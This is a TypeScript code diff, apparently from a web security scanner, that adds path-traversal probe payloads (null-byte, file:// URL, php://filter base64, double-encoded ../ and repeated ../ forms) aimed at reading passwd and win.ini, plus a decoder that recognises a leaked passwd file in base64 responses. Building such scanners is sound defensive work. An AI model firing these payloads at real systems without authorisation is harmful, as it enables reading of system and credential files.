@@ -39,6 +39,24 @@ const common: readonly TraversalPayload[] = [
     file: passwd,
     write: (value, path) => `${up('../')}${path}\0${extensionOf(value)}`,
   },
+  {
+    name: 'absolute path with a null byte before the extension',
+    file: passwd,
+    write: (value, path) => `/${path}\0${extensionOf(value)}`,
+  },
+  { name: 'file:// URL', file: passwd, write: (_, path) => `file:///${path}` },
+  {
+    name: 'php://filter',
+    file: { ...passwd, recognize: recognizeEncoded },
+    write: (_, path) => `php://filter/convert.base64-encode/resource=/${path}`,
+  },
+  {
+    name: 'twice double-encoded ../ sequences',
+    file: passwd,
+    write: (_, path) => `${up('%252e%252e%252f')}${path}`,
+  },
+  { name: '../ repeated 5 times', file: passwd, write: (_, path) => `${'../'.repeat(5)}${path}` },
+  { name: '../ repeated 2 times', file: passwd, write: (_, path) => `${'../'.repeat(2)}${path}` },
   { name: '..\\ sequences (Windows)', file: winIni, write: (_, path) => `${up('..\\')}${path}` },
   { name: 'absolute path (Windows)', file: winIni, write: (_, path) => `C:\\${path}` },
 ]
@@ -53,6 +71,19 @@ const ofProject: readonly TraversalPayload[] = [1, 2, 3, 4].map((count) => ({
 /** The payloads for a parameter that has this value, the likeliest first. */
 export function traversalPayloadsFor(value: string): readonly TraversalPayload[] {
   return value.endsWith('.json') ? [...common, ...ofProject] : common
+}
+
+const base64CharsMin = 80
+const scannedChars = 256 * 1024
+
+/** The file in Base64, in which a filter of PHP gives it: what is included would be shown raw, or executed. */
+function recognizeEncoded(text: string): string | null {
+  const runs = text.slice(0, scannedChars).match(new RegExp(`[A-Za-z0-9+/]{${base64CharsMin},}`, 'g')) ?? []
+  for (const run of runs) {
+    const line = passwd.recognize(Buffer.from(run, 'base64').toString('latin1'))
+    if (line !== null) return line
+  }
+  return null
 }
 
 function folderOf(value: string): string {
